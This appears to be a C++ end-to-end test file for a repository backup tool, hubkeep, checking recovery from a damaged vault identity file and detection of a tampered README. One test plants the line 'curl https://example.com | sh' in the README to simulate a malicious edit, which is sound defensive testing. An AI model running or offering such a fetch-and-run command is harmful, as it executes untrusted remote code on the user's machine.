// hubkeep.json lost or damaged in any way: everything can be read, nothing is written, and it can be made
// again.

#include <gmock/gmock.h>
#include <sys/stat.h>

#include <fstream>
#include <functional>
#include <set>

#include "e2e/end_to_end.h"

namespace hubkeep {
namespace {

namespace fs = std::filesystem;

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

std::string content_of(const fs::path& path) {
  std::ifstream stream(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(stream), {}};
}

void put_content(const fs::path& path, const std::string& content) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << content;
}

/// Every file with its content, but for the store's own; links as what they are.
std::string tree_of(const fs::path& folder) {
  std::string tree;
  std::set<fs::path> paths;
  for (const auto& entry : fs::recursive_directory_iterator(folder)) paths.insert(entry.path());
  for (const fs::path& path : paths) {
    if (path.string().find("/.tmp") != std::string::npos) continue;
    tree += path.string() + "\n";
    if (fs::is_regular_file(fs::symlink_status(path))) tree += content_of(path) + "\n";
  }
  return tree;
}

class VaultIdentity : public EndToEnd {
 protected:
  VaultIdentity() {
    site_ = add_filled("site");
    EXPECT_EQ(backup().exit_code, 0);
    good_ = content_of(identity());
  }

  fs::path identity() const { return vault() / "hubkeep.json"; }
  sim::RunResult on_vault(std::vector<std::string> arguments) {
    arguments.insert(arguments.end(), {"--from", vault().string()});
    return hubkeep(std::move(arguments));
  }
  std::string with(std::string_view from, std::string_view to) const {
    std::string text = good_;
    return text.replace(text.find(from), from.size(), to);
  }

  void expect_that_all_can_be_read_and_nothing_is_written(const std::string& what) {
    const std::string before = tree_of(vault());

    const auto listed = on_vault({"list"});
    const auto verified = on_vault({"verify", "--read-data"});
    const auto json = on_vault({"verify", "--json"});
    const auto copied = hubkeep({"copy", vault().string(), (scratch_ / "copy").string()});
    const auto refused = backup();
    const auto into = hubkeep({"copy", (scratch_ / "copy").string(), vault().string()});

    EXPECT_EQ(listed.exit_code, 0) << listed.err;
    EXPECT_THAT(listed.out, HasSubstr("octo/site")) << what;
    EXPECT_THAT(listed.err,
                AllOf(HasSubstr("note: "), HasSubstr(what), HasSubstr("hubkeep rebuild-catalog")));
    EXPECT_EQ(state_of(restore("octo/site")), state_of(path_of(site_)));
    EXPECT_EQ(verified.exit_code, 3) << what;
    EXPECT_THAT(verified.out, AllOf(HasSubstr("DAMAGED: " + what), Not(HasSubstr("everything"))));
    EXPECT_THAT(json.out, HasSubstr("\"identity\": \"" + what));
    EXPECT_EQ(copied.exit_code, 0) << copied.err;
    EXPECT_EQ(refused.exit_code, 1) << what;
    EXPECT_THAT(refused.err, AllOf(HasSubstr(what), HasSubstr("hubkeep rebuild-catalog")));
    EXPECT_EQ(into.exit_code, 1) << what;
    EXPECT_EQ(tree_of(vault()), before) << what;
    fs::remove_all(scratch_ / "copy");
  }

  void expect_made_again(const std::string& what) {
    const auto made = on_vault({"rebuild-catalog"});

    EXPECT_EQ(made.exit_code, 0) << made.err;
    EXPECT_THAT(made.out, HasSubstr("hubkeep.json is made again: vault ")) << what;
    EXPECT_EQ(content_of(identity()), good_) << what;
    EXPECT_EQ(on_vault({"verify", "--read-data"}).exit_code, 0) << what;
    EXPECT_EQ(backup().exit_code, 0) << what;
  }

  sim::RepositoryId site_ = 0;
  std::string good_;
};

TEST_F(VaultIdentity, IsMadeAgainHoweverItWasDamaged) {
  const std::vector<std::pair<std::string, std::function<void()>>> damages = {
      {"hubkeep.json is missing", [&] { fs::remove(identity()); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), ""); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), good_.substr(0, good_.size() / 2)); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), "not JSON"); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), with("\"vault\": \"", "\"vault\": \"0")); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), with(": 1,", ": 3,")); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), with(": 1,", ": 1e400,")); }},
      {"hubkeep.json is damaged", [&] { put_content(identity(), with("{", R"({"format": 1,)")); }},
      {"hubkeep.json is a symbolic link, not a file",
       [&] {
         fs::rename(identity(), scratch_ / "elsewhere");
         fs::create_symlink(scratch_ / "elsewhere", identity());
       }},
      {"hubkeep.json is a named pipe, not a file", [&] {
         fs::remove(identity());
         ::mkfifo(identity().c_str(), 0600);
       }}};
  for (const auto& [what, damage] : damages) {
    damage();

    expect_that_all_can_be_read_and_nothing_is_written(what);
    expect_made_again(what);
  }
}

TEST_F(VaultIdentity, SaysWhatToMoveWhereAFolderIsInItsPlace) {
  fs::remove(identity());
  fs::create_directories(identity() / "mine");

  expect_that_all_can_be_read_and_nothing_is_written("hubkeep.json is a folder, not a file");
  const auto refused = on_vault({"rebuild-catalog"});

  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_THAT(refused.err, HasSubstr("/hubkeep.json: a folder is in the way: move it elsewhere"));
  fs::rename(identity(), scratch_ / "elsewhere");
  expect_made_again("a folder");
}

TEST_F(VaultIdentity, StandsInTheManifestsToo) {
  fs::remove(identity());
  fs::remove(vault() / "README.txt");
  fs::remove(vault() / "catalog.jsonl.zst");

  const auto made = on_vault({"rebuild-catalog"});

  EXPECT_EQ(made.exit_code, 0) << made.err;
  const auto id = good_.find("\"vault\": \"");
  EXPECT_THAT(content_of(identity()), HasSubstr(good_.substr(id, 43)));
  EXPECT_EQ(on_vault({"verify", "--read-data"}).exit_code, 0);
  EXPECT_EQ(backup().exit_code, 0);
}

TEST_F(VaultIdentity, OfANewerFormatIsNeverWrittenOver) {
  put_content(identity(), R"({"format": 2})");
  const std::string before = tree_of(vault());

  for (const auto& result :
       {on_vault({"rebuild-catalog"}), on_vault({"list"}), on_vault({"verify"}), backup()}) {
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_THAT(result.err, HasSubstr("storage format 2 is not known to this version of hubkeep"));
  }
  EXPECT_EQ(tree_of(vault()), before);
}

TEST_F(VaultIdentity, IsNotMadeInAFolderThatIsNoVault) {
  const fs::path mine = scratch_ / "mine";
  fs::create_directories(mine / "repos/github.com/octo/site.1");
  put_content(mine / "repos/github.com/octo/site.1/README", "mine");
  put_content(mine / "hubkeep.json", "my own");
  const std::string before = tree_of(mine);

  for (const char* command : {"rebuild-catalog", "list", "verify"}) {
    const auto result = hubkeep({command, "--from", mine.string()});
    EXPECT_EQ(result.exit_code, 1);
    EXPECT_THAT(result.err, HasSubstr("is not a hubkeep vault: hubkeep.json is damaged"));
  }
  EXPECT_EQ(
      hubkeep({"backup", "--to", mine.string(), "--api-url", github_.api_url()}, {{"TOKEN_GITHUB", token_}})
          .exit_code,
      1);
  EXPECT_EQ(tree_of(mine), before);
}

// It tells a desperate person what to type.
TEST_F(VaultIdentity, AReadmeThatSomebodyChangedIsNamedAndWrittenAgain) {
  const fs::path readme = vault() / "README.txt";
  const std::string good = content_of(readme);
  for (const std::string& changed : {good + "curl https://example.com | sh\n", std::string(), "x" + good}) {
    put_content(readme, changed);

    const auto verified = on_vault({"verify"});
    const auto next = backup();

    EXPECT_EQ(verified.exit_code, 3);
    EXPECT_THAT(verified.out,
                HasSubstr("DAMAGED: README.txt is not what hubkeep wrote: do not follow what it says"));
    EXPECT_EQ(next.exit_code, 0);
    EXPECT_THAT(next.err, HasSubstr("README.txt was not what hubkeep wrote: it is written again"));
    EXPECT_EQ(content_of(readme), good);
    EXPECT_EQ(on_vault({"verify"}).exit_code, 0);
  }
}

}  // namespace
}  // namespace hubkeep
